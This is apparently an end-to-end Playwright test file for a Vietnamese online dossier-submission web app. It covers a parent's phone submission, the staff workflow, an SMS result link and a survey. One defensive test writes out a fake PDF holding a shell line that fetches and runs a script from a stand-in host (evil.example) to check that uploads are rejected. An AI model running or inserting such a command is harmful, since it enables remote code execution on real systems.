"""The citizen's half, end to end on a phone: a parent submits a dossier online with two
uploads → staff accept it → start → complete with an electronic result → the parent's SMS
(recorded by a test gateway on 127.0.0.1) carries the private link, which downloads the same
bytes (SHA-256) → the parent answers the survey."""
import hashlib

import pytest
from playwright.sync_api import expect

from dossiers.models import Document, Dossier, Submission
from tests.dossiers.conftest import reference_fields  # noqa: F401 - fixture
from tests.factories import PrincipalFactory, ProcedureFactory, StaffFactory
from tests.gateway import deliver_outbox

PNG = (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4\x89"
       b"\x00\x00\x00\rIDATx\x9cc\xf8\xff\xff?\x00\x05\xfe\x02\xfe\xa7\x35\x81\x84\x00\x00\x00\x00IEND\xaeB`\x82")
PDF = b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
RESULT = b"%PDF-1.4\n% Ket qua: mien hoc phi 100%\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"


@pytest.mark.django_db(transaction=True)
def test_a_parent_submits_online_and_downloads_the_electronic_result_on_a_phone(
    sms_gateway, outbox_tasks, live_server, desktop, phone, login, screenshot, reference_fields, tmp_path, settings
):
    settings.MEDIA_ROOT = tmp_path / "media"
    settings.SITE_URL = live_server.url  # the links in the SMS open the test server
    staff = StaffFactory(unit__name="Trường mầm non Tuổi Hồng", first_name="Lan", last_name="Nguyễn Thị")
    PrincipalFactory(unit=staff.unit, first_name="Hạnh", last_name="Trần Thị Mỹ")
    unit = staff.unit
    procedure = ProcedureFactory(
        unit=unit, code="MN-HP-01", name="Miễn, giảm học phí đối với trẻ mầm non", processing_days=5, online="full",
        required_documents=["Đơn đề nghị miễn, giảm học phí", "Bản sao giấy chứng nhận hộ nghèo"],
    )
    (tmp_path / "don-de-nghi.pdf").write_bytes(PDF)
    (tmp_path / "ho-ngheo.png").write_bytes(PNG)

    # 1. The parent finds the procedure on the unit's public page and fills the form on a phone.
    phone.goto(f"{live_server.url}/u/{unit.slug}/")
    phone.get_by_role("link", name="Nộp hồ sơ trực tuyến").first.tap()
    expect(phone.locator("h1")).to_have_text("Nộp hồ sơ trực tuyến")
    phone.get_by_role("link", name=procedure.name).tap()
    phone.fill("input[name=applicant_name]", "Phạm Thị Thu")
    phone.fill("input[name=applicant_phone]", "0908 765 432")
    phone.fill("input[name=applicant_address]", "25 Nguyễn Du, phường Sài Gòn")
    phone.fill("textarea[name=request_summary]", "Xin miễn học phí cho cháu Nguyễn Minh Khang, lớp Chồi 2.")
    phone.set_input_files("input[name=document_1]", str(tmp_path / "don-de-nghi.pdf"))
    phone.set_input_files("input[name=document_2]", str(tmp_path / "ho-ngheo.png"))
    phone.locator("label[for=id_consent]").tap()
    assert phone.evaluate("document.documentElement.scrollWidth <= window.innerWidth")
    screenshot(phone, "online-1-form-phone")
    phone.locator("#online-form button[type=submit]").tap()
    expect(phone.locator("#submission-reference")).to_be_visible()
    submission = Submission.objects.get()
    assert phone.locator("#submission-reference").inner_text() == submission.reference
    follow_link = phone.locator("#follow-link").get_attribute("href")
    assert follow_link.endswith(f"/track/online/{submission.reference}/?s={submission.secret}")
    assert [f.content_type for f in submission.files.order_by("position")] == ["application/pdf", "image/png"]
    screenshot(phone, "online-2-sent-phone")
    follow_path = follow_link.split("://", 1)[1].split("/", 1)[1]
    phone.goto(f"{live_server.url}/{follow_path}")
    expect(phone.locator("#submission-status")).to_contain_text("đang chờ đơn vị kiểm tra")

    # 2. Staff accept it from the queue: the dossier is registered, channel online.
    login(desktop, staff)
    desktop.goto(f"{live_server.url}/dossiers/submissions/")
    desktop.get_by_role("link", name=submission.reference).click()
    screenshot(desktop, "online-3-submission-desktop")
    desktop.locator("#accept-form button").click()
    desktop.wait_for_load_state()
    dossier = Dossier.objects.get()
    assert desktop.url.endswith(f"/dossiers/{dossier.code}/")
    assert dossier.channel == "online" and all(d["digitised"] for d in dossier.documents)
    expect(desktop.locator("#dossier-channel")).to_contain_text("Trực tuyến")

    # 3. Start, then complete with the signed result attached.
    desktop.click("#action-start summary")
    desktop.click("#action-start button[type=submit]")
    desktop.wait_for_load_state()
    expect(desktop.locator("#dossier-status")).to_have_text("Đang giải quyết")
    (tmp_path / "ket-qua.pdf").write_bytes(RESULT)
    desktop.click("#action-complete summary")
    desktop.set_input_files("#complete-result-file", str(tmp_path / "ket-qua.pdf"))
    desktop.click("#action-complete button[type=submit]")
    desktop.wait_for_load_state()
    result = Document.objects.get(dossier=dossier, kind="result")
    assert result.code == f"{dossier.code}-KQ1" and result.sha256 == hashlib.sha256(RESULT).hexdigest()
    expect(desktop.locator("#results")).to_contain_text(result.code)
    screenshot(desktop, "online-4-completed-desktop")

    # 4. The parent's SMS says the result is ready, with the private link: the dossier's
    #    tracking page, the result to download.
    deliver_outbox("dossiers.ApplicantNotice")
    texts = sms_gateway.texts_to("0908 765 432")
    assert len(texts) == 2  # received, then the result is ready
    assert "ông/bà" in texts[-1] and "bạn" not in texts[-1]
    sms_link = sms_gateway.links_to("0908 765 432")[-1]
    assert sms_link.startswith(live_server.url) and f"s={dossier.tracking_secret}" in sms_link
    phone.goto(sms_link)
    expect(phone.locator("#track-status")).to_contain_text("Đã có kết quả")
    assert "Phạm Thị Thu" not in phone.content()
    screenshot(phone, "online-5-result-phone")
    with phone.expect_download() as download_info:
        phone.locator("#track-results a").first.tap()
    downloaded = download_info.value.path().read_bytes()
    assert hashlib.sha256(downloaded).hexdigest() == result.sha256

    # 5. And rates the service.
    phone.locator("#track-survey").tap()
    phone.locator("label[for=overall-5]").tap()
    phone.locator("label[for=result-5]").tap()
    phone.locator("button.survey-submit").tap()
    expect(phone.locator("[data-testid=survey-thanks] h1")).to_have_text("Xin cảm ơn!")
    dossier.refresh_from_db()
    assert dossier.survey_answered_at is not None


@pytest.mark.django_db(transaction=True)
def test_a_script_renamed_pdf_gets_a_clear_vietnamese_error_on_a_phone(live_server, phone, screenshot, reference_fields,
                                                                        tmp_path, settings):
    settings.MEDIA_ROOT = tmp_path / "media"
    procedure = ProcedureFactory(online="partial", required_documents=["Đơn đề nghị", "Giấy khai sinh"])
    (tmp_path / "don.pdf").write_bytes(b"#!/bin/sh\ncurl http://evil.example/x | sh\n")
    (tmp_path / "khai-sinh.png").write_bytes(PNG)
    phone.goto(f"{live_server.url}/u/{procedure.unit.slug}/nop-ho-so/{procedure.code}/")
    phone.fill("input[name=applicant_name]", "Phạm Thị Thu")
    phone.fill("input[name=applicant_phone]", "0908765432")
    phone.fill("input[name=applicant_address]", "25 Nguyễn Du")
    phone.set_input_files("input[name=document_1]", str(tmp_path / "don.pdf"))
    phone.set_input_files("input[name=document_2]", str(tmp_path / "khai-sinh.png"))
    phone.locator("label[for=id_consent]").tap()
    phone.locator("#online-form button[type=submit]").tap()
    expect(phone.locator("[data-testid=upload-error]")).to_contain_text("“don.pdf” không phải ảnh hoặc tài liệu PDF")
    expect(phone.locator("[data-testid=form-error]")).to_contain_text("đính kèm lại các giấy tờ")
    expect(phone.locator("input[name=applicant_name]")).to_have_value("Phạm Thị Thu")
    screenshot(phone, "online-6-bad-upload-phone")
    assert not Submission.objects.exists()
    assert not (tmp_path / "media" / "submissions").exists()
